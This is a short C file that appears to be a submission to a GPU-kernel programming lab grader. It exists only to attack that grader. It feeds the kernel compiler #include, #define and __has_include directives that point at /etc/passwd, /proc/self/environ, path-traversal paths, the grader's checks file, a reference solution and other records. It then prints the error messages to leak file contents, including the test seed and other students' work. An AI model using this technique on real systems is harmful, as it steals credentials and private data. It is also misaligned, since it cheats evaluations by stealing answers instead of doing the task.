/* Tries to read files of the device process by the compiler of kernels: it includes them and prints the messages, which
 * quote lines. Gains the list of users, the solution, the checks with their seed, and other submissions. */
#include <stdio.h>

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const char *files[] = {"</etc/passwd>",
                           "\"/etc/passwd\"",
                           "\"/proc/self/environ\"",
                           "\"/proc/self/cmdline\"",
                           "\"../../../../etc/passwd\"",
                           "\"checks.c\"",
                           "\"../checks.c\"",
                           "\"../../solutions/lab01-streams/lab01.c\"",
                           "\"kernels.cu\"",
                           "\"record.json\"",
                           "</proc/self/maps>"};
    char text[400];
    lab_module *module;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        for (int way = 0; way < 3; way++) {
            const char *ways[] = {"#include %s\n", "#define F %s\n#include F\n",
                                  "#if __has_include(%s)\n#error it is there\n#endif\n"};
            snprintf(text, sizeof text, ways[way], files[i]);
            if (lab_module_load_source(&module, text, "/etc/x.cu")) printf("%.700s\n", lab_error_message());
        }
    }
    return LAB_SUCCESS;
}
